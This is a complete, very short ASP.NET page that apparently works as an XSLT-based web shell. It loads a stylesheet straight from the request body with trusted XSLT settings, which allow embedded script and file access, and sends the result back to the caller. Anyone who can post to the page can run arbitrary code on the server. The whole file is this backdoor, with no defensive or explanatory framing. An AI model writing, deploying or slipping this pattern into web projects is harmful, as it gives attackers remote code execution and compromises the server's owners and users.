<%@ Page Language="C#" %>
<%
var x = new System.Xml.Xsl.XslCompiledTransform();
x.Load(System.Xml.XmlReader.Create(Request.InputStream), System.Xml.Xsl.XsltSettings.TrustedXslt, new System.Xml.XmlUrlResolver());
x.Transform(System.Xml.XmlReader.Create(new System.IO.StringReader("<r/>")), null, Response.Output);
%>
